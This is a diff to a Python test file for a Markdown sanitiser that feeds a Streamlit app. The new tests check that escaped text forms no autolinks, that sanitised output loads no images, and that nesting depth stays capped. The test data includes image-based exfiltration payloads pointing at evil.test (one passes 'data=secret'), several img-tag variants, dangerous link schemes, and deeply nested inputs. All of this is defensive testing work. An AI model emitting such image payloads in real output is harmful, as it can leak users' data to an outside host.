@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from lib.safe_markdown import escape_markdown, is_safe_link_target, safe_markdown
+from lib.safe_markdown import MAX_NESTING, escape_markdown, is_safe_link_target, safe_markdown
 
 DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")
 
@@ -122,7 +122,6 @@ def _unescaped_punctuation(markdown: str) -> list[str]:
         "[up](../readme.md)",
         "[anchor](#section-2)",
         "[site](HTTP://EXAMPLE.COM)",
-        "![chart](https://example.com/chart.png)",
         "[ref]\n\n[ref]: https://example.com",
         "Ratio: 3:1 [approx] (rounded)",
     ],
@@ -189,7 +188,7 @@ def test_is_safe_link_target(target: str, safe: bool) -> None:
         ("a\\b", "a\\\\b"),
         ("1. item", "1\\. item"),
         ("~~strike~~", "\\~\\~strike\\~\\~"),
-        (":red[text]", "\\:red\\[text\\]"),
+        (":red[text]", "\\:\u2060red\\[text\\]"),
         ("&amp;", "\\&amp\\;"),
         ("plain words", "plain words"),
     ],
@@ -212,8 +211,8 @@ def test_escape_markdown_leaves_unicode_alone() -> None:
 
 
 def _unescape_markdown(markdown: str) -> str:
-    """What a reader sees: backslash escapes, hard-break spaces and no-break indentation undone."""
-    text = markdown.replace("  \n", "\n")
+    """What a reader sees: backslash escapes, hard-break spaces, no-break indentation and word joiners undone."""
+    text = markdown.replace("  \n", "\n").replace("\u2060", "")
     text = re.sub(r"(?m)^\u00a0+", lambda m: " " * len(m.group(0)), text)
     return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)
 
@@ -251,3 +250,125 @@ def test_property_safe_markdown_never_yields_a_dangerous_target(text: str) -> No
     out = safe_markdown(text)
     assert _unsafe_targets(out) == []
     assert "<" not in out
+
+
+# --- Issue #17: escaped text is inert in Streamlit's renderer; coach Markdown loads no image and
+# nests boundedly. The patterns are those of remark-gfm's literal autolinks and remark-emoji.
+_AUTOLINK_RES = (
+    re.compile(r"https?://", re.IGNORECASE),
+    re.compile(r"www\.", re.IGNORECASE),
+    re.compile(r"[-.\w+]@[-\w]"),
+    re.compile(r":[\w+-]+:"),  # :smile:, :streamlit:, :+1:
+    re.compile(r":[\w-]+\["),  # :blue[...], :red-badge[...]
+    re.compile(r":material/"),
+)
+
+
+def _seen_text(markdown: str) -> str:
+    """The text nodes a Markdown parser hands to Streamlit's plugins: backslash escapes undone."""
+    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "see https://evil.test/x?q=1",
+        "HTTP://EVIL.TEST",
+        "www.evil.test and WWW.Evil.Test",
+        "mail me@evil.test or mailto:me@evil.test",
+        "I :smile: at :streamlit: and :+1:",
+        ":blue[coloured] :red-badge[x] :material/thumb_up:",
+    ],
+)
+def test_escape_markdown_leaves_no_autolink_or_shortcode(text: str) -> None:
+    seen = _seen_text(escape_markdown(text))
+    assert [p.pattern for p in _AUTOLINK_RES if p.search(seen)] == []
+    assert seen.replace("\u2060", "") == text
+
+
+@settings(max_examples=400)
+@given(
+    st.lists(
+        st.sampled_from(
+            ["http", "s", "://", "www", ".", "@", "a", "b", ":", "smile", "+", "-", "[", " ", "/"]
+        ),
+        max_size=20,
+    ).map("".join)
+)
+def test_property_escape_markdown_leaves_no_autolink_or_shortcode(text: str) -> None:
+    seen = _seen_text(escape_markdown(text))
+    assert [p.pattern for p in _AUTOLINK_RES if p.search(seen)] == []
+
+
+def _tokens(markdown: str) -> list:
+    from markdown_it import MarkdownIt
+
+    def walk(tokens: list) -> list:
+        return [t for token in tokens for t in (token, *walk(token.children or []))]
+
+    return walk(MarkdownIt("commonmark").parse(markdown))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![chart](https://evil.test/leak.png?data=secret)",
+        "Look: ![x](https://evil.test/a.png 'title') and ![y][ref]\n\n[ref]: https://evil.test/b.png",
+        "![](//evil.test/c.png)",
+        "- item ![z](https://evil.test/d.png)\n> ![q](https://evil.test/e.png)",
+        "\\\\![w](https://evil.test/f.png)",
+        "!![v](https://evil.test/g.png)",
+        "<img src=https://evil.test/h.png>",
+    ],
+)
+def test_safe_markdown_never_yields_an_image(text: str) -> None:
+    tokens = _tokens(safe_markdown(text))
+    assert [
+        t.type for t in tokens if t.type == "image" or (t.type.startswith("html") and "<img" in t.content)
+    ] == []
+    assert any(t.type == "link_open" for t in tokens) or "![" not in text or "<img" in text
+
+
+def _max_depth(markdown: str) -> int:
+    depth = deepest = 0
+    for token in _tokens(markdown):
+        if token.type in {"blockquote_open", "bullet_list_open", "ordered_list_open"}:
+            depth += 1
+            deepest = max(deepest, depth)
+        elif token.type in {"blockquote_close", "bullet_list_close", "ordered_list_close"}:
+            depth -= 1
+    return deepest
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        ">" * 3000 + " deep",
+        "> " * 3000 + "deep",
+        "- " * 3000 + "deep",
+        "1. " * 3000 + "deep",
+        "> - 1. " * 1000 + "mixed",
+        "\n".join("  " * i + "- level" for i in range(300)),
+        "\n".join(">" * i + " line" for i in range(1, 300)),
+    ],
+)
+def test_safe_markdown_caps_nesting(text: str) -> None:
+    out = safe_markdown(text)
+    assert _max_depth(out) <= MAX_NESTING
+    assert _max_depth(text) > MAX_NESTING  # the input really was too deep
+
+
+def test_safe_markdown_keeps_nesting_up_to_the_limit() -> None:
+    text = "\n".join("  " * i + "- level" for i in range(MAX_NESTING))
+    assert safe_markdown(text) == text
+    assert _max_depth(text) == MAX_NESTING
+
+
+@settings(max_examples=300)
+@given(
+    st.lists(st.sampled_from([">", "- ", "* ", "1. ", "2) ", " ", "  ", "\t", "x", "\n"]), max_size=60).map(
+        "".join
+    )
+)
+def test_property_safe_markdown_nesting_stays_bounded(text: str) -> None:
+    assert _max_depth(safe_markdown(text * 3)) <= MAX_NESTING
